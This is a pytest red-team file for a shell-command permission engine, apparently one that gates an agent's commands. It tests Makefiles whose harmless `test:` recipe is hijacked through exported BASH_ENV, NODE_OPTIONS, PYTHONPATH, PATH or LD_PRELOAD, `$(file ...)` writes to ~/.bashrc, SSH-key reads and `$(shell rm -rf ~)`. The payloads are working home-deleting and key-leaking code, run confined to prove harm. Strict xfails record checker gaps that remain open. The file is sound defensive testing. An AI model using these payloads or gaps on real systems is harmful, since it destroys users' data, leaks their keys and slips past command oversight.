"""mk50 (stop 50, issue 8): makefiles that change what their recipes run.

The family: a makefile the caller wrote (write_file in a session, or one on the disk that `Engine.check('make test')`
reads, bg49's DiskView) whose `test:` recipe is harmless (`pytest -q`, `true`, `git status`) but whose text changes
what that recipe runs, all allowed and all live before this stop:

1. Exported variables reach every recipe's environment: `export NODE_OPTIONS=--require=./x.js`, `export
   GIT_CONFIG_PARAMETERS=…`, `export BASH_ENV=./x.sh` (with `SHELL = /bin/bash`), `export PYTHONPATH=./evil`, `export
   PATH := ./evil:$(PATH)`, `export LD_PRELOAD=…`, `.EXPORT_ALL_VARIABLES:` or a bare `export` with plain assignments,
   `export NAME` after `NAME = …`, a target's `test: export X = …`, a value make computes (`$(shell cat f)`), and the
   variables make's command line gives (`make test BASH_ENV=./x.sh`, `MAKEFLAGS='BASH_ENV=./x.sh'`), which make exports
   to its recipes. Fixed (executors.make_exports): each recipe is judged as if the shell `export NAME="VALUE"` lines of
   what make exports came before it, so the analyzer reads them as it reads `export NODE_OPTIONS=…; node x` on a line
   (no new table: the `env:` runs of policies/executors.yaml decide). A value make computes is one known only at run
   time (asks for the variables that run something). A recipe's shell is a process of its own: what it exports no
   longer leaves make's own variables lost (`make x CC=clang` stays allowed).
2. Parse-time functions, wherever they are in the makefile: `$(file >$(HOME)/.bashrc,…)` / `$(file >>…)` are judged as
   a redirection to that path (`printf … > ~/.bashrc`: asks), `$(file <P)` as `cat P` (`$(file <~/.ssh/id_ed25519)`
   asks), `$(eval TEXT)` reads TEXT as makefile text, a computed one (`$(eval $(subst X,,tXest: ; rXm -rf ~))`) asks,
   `$(guile …)` and the `load` / `-load` directive (a shared object) ask. `$(shell …)` at parse time and an `include`
   a rule remakes were judged already (kept as tests).
3. Near misses that stay allowed: `export CGO_ENABLED=0`, `export PYTHONDONTWRITEBYTECODE=1`, `export
   GOFLAGS=-mod=vendor`, `$(shell git rev-parse HEAD)`, `$(file >build/x,…)`, `$(file >$@,…)` in a rule's recipe,
   `make test V=1`, `make x CC=clang`, a venv's `export PATH := $(CURDIR)/.venv/bin:$(PATH)`, ordinary exports.

Open (strict xfails below, harm shown live): a check WITHOUT a session does not read a PYTHONPATH folder's modules nor
a PATH folder's programs on the disk, for `PYTHONPATH=./evil python3 -c …` / `PATH=./evil:$PATH pytest -q` typed on
the line as for the makefile's export (the same verdict: allowed); a session that wrote them asks or denies.
"""

from __future__ import annotations

import json
import os
import shlex
import time
from pathlib import Path

import pytest

from tests.redteam.conftest import home_intact
from tests.redteam.harm import harm_project, run_confined, session_verdict

_RM_HOME = "rm -rf ~\n"
_JS = "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})\n"
_PY = "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"
_BASH = "SHELL = /bin/bash\n"
_PYTEST = "test:\n\tpytest -q\n"

# name -> (files of the project, the command): each does harm live (shown below); none may be allowed
PAYLOADS: dict[str, tuple[dict[str, str], str]] = {
    "node-options": (
        {"Makefile": "export NODE_OPTIONS=--require=./x.js\ntest:\n\tnode -e 0\n", "x.js": _JS},
        "make test",
    ),
    "git-config-parameters": (
        {"Makefile": "export GIT_CONFIG_PARAMETERS='core.fsmonitor'='./x.sh'\ntest:\n\tgit status\n", "x.sh": _RM_HOME},
        "git init -q; chmod +x x.sh; make test",
    ),
    "bash-env": ({"Makefile": _BASH + "export BASH_ENV=./x.sh\ntest:\n\ttrue\n", "x.sh": _RM_HOME}, "make test"),
    "bash-env-override-export": (
        {"Makefile": _BASH + "override export BASH_ENV := ./x.sh\ntest:\n\ttrue\n", "x.sh": _RM_HOME},
        "make test",
    ),
    "export-all-variables": (
        {"Makefile": ".EXPORT_ALL_VARIABLES:\n" + _BASH + "BASH_ENV = ./x.sh\ntest:\n\ttrue\n", "x.sh": _RM_HOME},
        "make test",
    ),
    "bare-export": (
        {"Makefile": "export\n" + _BASH + "BASH_ENV = ./x.sh\ntest:\n\ttrue\n", "x.sh": _RM_HOME},
        "make test",
    ),
    "export-name-later": (
        {"Makefile": _BASH + "BASH_ENV = ./x.sh\nexport BASH_ENV\ntest:\n\ttrue\n", "x.sh": _RM_HOME},
        "make test",
    ),
    "export-all-unexport-other": (
        {
            "Makefile": ".EXPORT_ALL_VARIABLES:\nunexport CC\n" + _BASH + "BASH_ENV = ./x.sh\ntest:\n\ttrue\n",
            "x.sh": _RM_HOME,
        },
        "make test",
    ),
    "target-export": (
        {"Makefile": "test: SHELL = /bin/bash\ntest: export BASH_ENV = ./x.sh\ntest:\n\ttrue\n", "x.sh": _RM_HOME},
        "make test",
    ),
    "computed-value": (
        {
            "Makefile": _BASH + "export BASH_ENV := $(shell cat f.txt)\ntest:\n\ttrue\n",
            "f.txt": "./x.sh\n",
            "x.sh": _RM_HOME,
        },
        "make test",
    ),
    "command-line-variable": ({"Makefile": _BASH + "test:\n\ttrue\n", "x.sh": _RM_HOME}, "make test BASH_ENV=./x.sh"),
    "makeflags-variable": (
        {"Makefile": _BASH + "test:\n\ttrue\n", "x.sh": _RM_HOME},
        "MAKEFLAGS='BASH_ENV=./x.sh' make test",
    ),
    "file-write-bashrc": (
        {"Makefile": "$(file >$(HOME)/.bashrc,rm -rf ~)\ntest:\n\ttrue\n"},
        "make test; bash -ic true",
    ),
    "file-append-bashrc": (
        {"Makefile": "X := $(file >>$(HOME)/.bashrc,rm -rf ~)\ntest:\n\ttrue\n"},
        "make test; bash -ic true",
    ),
    "file-read-key": (
        {"Makefile": "test:\n\t@echo '$(file <$(HOME)/.ssh/id_ed25519)' > leaked.txt; rm -rf ~/.ssh\n"},
        "make test",
    ),
    "eval-computed": ({"Makefile": "$(eval $(subst X,,tXest: ; rXm -rf ~))\n"}, "make test"),
    "eval-literal-shell": ({"Makefile": "$(eval X := $$(shell rm -rf ~))\n" + "test:\n\ttrue\n"}, "make test"),
    "shell-at-parse": ({"Makefile": "X := $(shell rm -rf ~)\ntest:\n\ttrue\n"}, "make test"),
    "include-remade": (
        {"Makefile": "include deps.txt\ndeps.txt:\n\trm -rf ~\n\ttouch deps.txt\ntest:\n\ttrue\n"},
        "make test",
    ),
}
# judged (fail closed) but not shown live here: make has no Guile here, a shared object needs building
VERDICT_ONLY: dict[str, tuple[dict[str, str], str]] = {
    "guile": ({"Makefile": '$(guile (system "rm -rf ~"))\n' + _PYTEST}, "make test"),
    "load": ({"Makefile": "load ./x.so\n" + _PYTEST, "x.so": "\x7fELF"}, "make test"),
    "dash-load": ({"Makefile": "-load ./x.so\n" + _PYTEST, "x.so": "\x7fELF"}, "make test"),
    "ld-preload": ({"Makefile": "export LD_PRELOAD=./x.so\n" + _PYTEST, "x.so": "\x7fELF"}, "make test"),
    "node-options-elsewhere": ({"Makefile": "export NODE_OPTIONS=--require=/tmp/x.js\n" + _PYTEST}, "make test"),
}
# a session that wrote the folder asks / denies; a check without one does not read the folder (open, below)
SESSION_ONLY: dict[str, tuple[dict[str, str], str]] = {
    "pythonpath": (
        {"Makefile": "export PYTHONPATH=./evil\ntest:\n\tpython3 -c 0\n", "evil/sitecustomize.py": _PY},
        "make test",
    ),
    "path-prepended": (
        {"Makefile": "export PATH := ./evil:$(PATH)\n" + _PYTEST, "evil/pytest": "#!/bin/sh\n" + _RM_HOME},
        "chmod +x evil/pytest; make test",
    ),
}

_GO = "test:\n\tgo test ./...\n"
NEAR_MISSES: dict[str, tuple[dict[str, str], str]] = {
    "cgo-enabled": ({"Makefile": "export CGO_ENABLED=0\n" + _GO}, "make test"),
    "pythondontwritebytecode": ({"Makefile": "export PYTHONDONTWRITEBYTECODE=1\n" + _PYTEST}, "make test"),
    "goflags": ({"Makefile": "export GOFLAGS=-mod=vendor\n" + _GO}, "make test"),
    "rev-parse": ({"Makefile": "REV := $(shell git rev-parse HEAD)\ntest:\n\techo $(REV)\n"}, "make test"),
    "file-in-project": ({"Makefile": "$(file >build/x,hello)\n" + _PYTEST}, "make test"),
    "file-rule-target": ({"Makefile": "OBJS = a.o b.o\nlink.rsp:\n\t$(file >$@,$(OBJS))\n"}, "make link.rsp"),
    "file-read-version": ({"Makefile": "V := $(file <VERSION)\ntest:\n\techo $(V)\n"}, "make test"),
    "verbose": ({"Makefile": _PYTEST}, "make test V=1"),
    "cc-on-line": ({"Makefile": "x:\n\t$(CC) $(CFLAGS) -o x x.c\n"}, "make x CC=clang"),
    "ordinary-exports": (
        {"Makefile": "export LANG=C\nexport CGO_ENABLED=0\nexport PYTHONDONTWRITEBYTECODE=1\n" + _PYTEST},
        "make test",
    ),
    "export-all-ordinary": (
        {"Makefile": ".EXPORT_ALL_VARIABLES:\nPY = python3\ntest:\n\t$(PY) -m pytest -q\n"},
        "make test",
    ),
    "venv-path": ({"Makefile": "export PATH := $(CURDIR)/.venv/bin:$(PATH)\n" + _PYTEST}, "make test"),
    "pythonpath-src": ({"Makefile": "export PYTHONPATH := $(CURDIR)/src\n" + _PYTEST}, "make test"),
    "node-env": (
        {"Makefile": "export NODE_ENV=test\nexport NODE_OPTIONS=--max-old-space-size=4096\ntest:\n\tnpx jest\n"},
        "make test",
    ),
    "version-export": (
        {"Makefile": "export VERSION := $(shell git describe --tags --always)\nbuild:\n\tgo build ./...\n"},
        "make build",
    ),
    "go-cross": (
        {"Makefile": "export GOOS ?= linux\nexport GOARCH ?= amd64\nbuild:\n\tgo build -o bin/app .\n"},
        "make build",
    ),
    "eval-literal": ({"Makefile": "$(eval X := 1)\n" + _PYTEST}, "make test"),
}


def _command_for_live(files: dict[str, str], command: str) -> str:
    """The shell line that writes ``files`` where it runs, then runs ``command``."""
    writes = [f"mkdir -p {shlex.quote(str(Path(p).parent))}" for p in files if "/" in p]
    writes += [f"printf %s {shlex.quote(text)} > {shlex.quote(path)}" for path, text in files.items()]
    return "; ".join([*writes, command])


def _harmed(tmp_path: Path, files: dict[str, str], command: str) -> tuple[bool, str]:
    """Run the payload with make under bash in a fake HOME: whether the home lost its key or note, or the key leaked."""
    home, cwd, printed = run_confined(tmp_path, _command_for_live(files, command))
    leaked = (cwd / "leaked.txt").is_file() and "secret key" in (cwd / "leaked.txt").read_text()
    return (not home_intact(home)) or leaked, printed


def _on_disk(root: Path, files: dict[str, str]) -> None:
    """``files`` written in the project, dated an hour back (older than any session)."""
    back = time.time() - 3600
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
        os.utime(root / path, (back, back))


def _check(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], command: str) -> str:
    with harm_project(tmp_path, monkeypatch) as (engine, _home, root):
        _on_disk(root, files)
        verdict = engine.check(command)
        return f"{verdict.decision} {json.dumps(sorted({m.key for m in verdict.matches}))}"


def _in_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], command: str) -> str:
    with harm_project(tmp_path, monkeypatch) as (engine, _home, root):
        return session_verdict(root, engine, files, command, "s-mk50")


@pytest.mark.parametrize("name", [*PAYLOADS, *SESSION_ONLY])
def test_payload_harm_is_real(tmp_path: Path, name: str) -> None:
    files, command = {**PAYLOADS, **SESSION_ONLY}[name]
    harmed, printed = _harmed(tmp_path, files, command)
    assert harmed, (name, printed)


@pytest.mark.parametrize("name", [*PAYLOADS, *VERDICT_ONLY])
def test_payload_not_allowed_without_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    files, command = {**PAYLOADS, **VERDICT_ONLY}[name]
    assert not _check(tmp_path, monkeypatch, files, command).startswith("allow"), command


@pytest.mark.parametrize("name", [*PAYLOADS, *VERDICT_ONLY, *SESSION_ONLY])
def test_payload_not_allowed_in_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    files, command = {**PAYLOADS, **VERDICT_ONLY, **SESSION_ONLY}[name]
    assert _in_session(tmp_path, monkeypatch, files, command) != "allow", command


@pytest.mark.xfail(
    strict=True,
    reason="open (mk50): a check without a session does not read a PYTHONPATH folder's modules nor a PATH folder's "
    "programs on the disk (`PYTHONPATH=./evil python3 -c 0` typed on the line is allowed alike); a session that wrote "
    "them is judged",
)
@pytest.mark.parametrize("name", list(SESSION_ONLY))
def test_open_session_less_folder_exports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    files, command = SESSION_ONLY[name]
    assert not _check(tmp_path, monkeypatch, files, command).startswith("allow"), command


def test_open_session_less_folder_exports_match_the_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The open case is the engine's reading of the same variables on a line, not a make-only hole."""
    files = {"evil/sitecustomize.py": _PY}
    assert _check(tmp_path, monkeypatch, files, "PYTHONPATH=./evil python3 -c 0").startswith("allow")


@pytest.mark.parametrize("name", list(NEAR_MISSES))
def test_near_miss_allowed_without_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    files, command = NEAR_MISSES[name]
    verdict = _check(tmp_path, monkeypatch, files, command)
    assert verdict.startswith("allow"), (command, verdict)


@pytest.mark.parametrize("name", list(NEAR_MISSES))
def test_near_miss_allowed_in_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    files, command = NEAR_MISSES[name]
    assert _in_session(tmp_path, monkeypatch, files, command) == "allow", command


@pytest.mark.parametrize("name", ["file-in-project", "file-rule-target", "ordinary-exports", "verbose", "eval-literal"])
def test_near_miss_leaves_the_home_alone(tmp_path: Path, name: str) -> None:
    files, command = NEAR_MISSES[name]
    harmed, printed = _harmed(tmp_path, files, command)
    assert not harmed, (name, printed)


def test_exports_read_before_each_recipe() -> None:
    """The reading itself: the makefile's and the command line's exports come before the recipe, a computed value is
    one known only at run time, `$(file …)` is a redirection, `$(file …)` calls leave the recipe."""
    from engine.policy.executors import MakeGiven, make_payloads

    text = "export A := 1\nB = $(shell cat f)\nexport B\nC = 3\n$(file >>$(HOME)/x,t)\nt:\n\techo $(file <y)ok\n"
    out = make_payloads(text, MakeGiven({"D": ["4"]}, {}, goals=("t",)))
    assert 'export A="1"; export B="$(cat f)"; export D="4"; echo ok' in out, out
    assert "printf '%s\\n' t >> \"${HOME}/x\"" in out and 'cat "y"' in out, out
    assert not any(r is not None and "C=" in r for r in out), out
